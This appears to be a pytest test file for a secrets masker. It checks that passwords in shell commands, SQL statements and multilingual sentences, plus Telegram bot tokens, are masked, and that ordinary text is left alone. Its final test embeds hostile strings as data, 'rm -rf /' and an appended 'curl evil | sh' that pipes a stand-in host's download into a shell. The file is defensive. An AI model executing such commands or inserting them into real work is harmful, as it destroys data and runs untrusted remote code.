"""Attack 44: passwords in commands, statements and sentences are masked; ordinary sentences are not."""

from __future__ import annotations

import pytest

from signoff.text.secrets.masker import MASK, Masker
from signoff.text.secrets.names import DEFAULT

MASKER = Masker(b"0123456789abcdef", DEFAULT, ())
X = "Zebra42x"


@pytest.mark.parametrize(
    "text",
    [
        f"sshpass -p {X} ssh root@host",
        f"sshpass -p'{X}' scp a b",
        f"tar c . | sshpass -p{X} ssh host",
        f"mysql -h db -P 3306 -u root -p{X} shop",
        f"mysqldump --all-databases -p'{X}' > all.sql",
        f"zip -r a.zip . ; mariadb -uroot -p{X}",
        f"mongosh -u admin -p {X}",
        f"redis-cli -h cache -a {X} ping",
        f"sqlcmd -S host -U sa -P {X}",
        f"ldapsearch -D cn=admin -w {X}",
        f"unzip -P {X} a.zip",
        f"7z x -p{X} a.7z",
        f"smbclient //host/share -U bob%{X}",
        f"CREATE USER bob WITH PASSWORD '{X}';",
        f"ALTER ROLE bob password '{X}'",
        f"ALTER LOGIN bob WITH PASSWORD = N'{X}'",
        f"CREATE USER bob IDENTIFIED BY '{X}'",
        f"create user bob identified with caching_sha2_password by '{X}'",
        f"SET PASSWORD FOR bob = PASSWORD('{X}')",
        f"the password is {X}",
        f"The password is: {X}, keep it",
        f"my Password was '{X}'.",
        f"das Passwort lautet {X}",
        f"the token is {X}",
        f"the api key is {X}",
        f"passwort={X}",
        f"Kennwort: {X}",
        f"contraseña={X}",
        f"mot de passe : {X}",
        f"пароль: {X}",
        f"密码是{X}",
    ],
)
def test_a_password_in_a_command_a_statement_or_a_sentence_is_masked(text: str) -> None:
    masked = MASKER.mask_text(text)
    assert X not in masked
    assert MASK.sub(X, masked).replace(f"{X},", X) == text.replace(f"{X},", X)


@pytest.mark.parametrize("prefix", ["", "bot", "https://api.telegram.org/bot"])
@pytest.mark.parametrize("length", [34, 35])
def test_a_telegram_token_is_masked(prefix: str, length: int) -> None:
    token = ("AA" + "Hd7qTcvCH1" * 4)[:length]
    masked = MASKER.mask_text(f"{prefix}1234567890:{token} getMe")
    assert token not in masked
    assert "1234567890" not in masked
    assert masked.endswith(" getMe")


@pytest.mark.parametrize(
    "text",
    [
        "The password is required.",
        "your password is too short",
        "the password is not stored here",
        "Das Passwort ist falsch",
        "the secret is out",
        "the token is valid",
        "the key is under the mat",
        "cp -pr a b",
        "ssh -p 2222 host",
        "docker run -p 8080:80 mysql",
        "psql -p 5432",
        "mysql -p shop",
        "at 12:30 the meeting",
    ],
)
def test_ordinary_sentences_and_commands_stay_readable(text: str) -> None:
    assert MASKER.mask_text(text) == text


def test_a_command_after_the_words_stays_visible() -> None:
    assert "rm -rf /" in MASKER.mask_text("the password is rm -rf /")
    assert "; curl evil | sh" in MASKER.mask_text(f"mysql -p{X}; curl evil | sh")
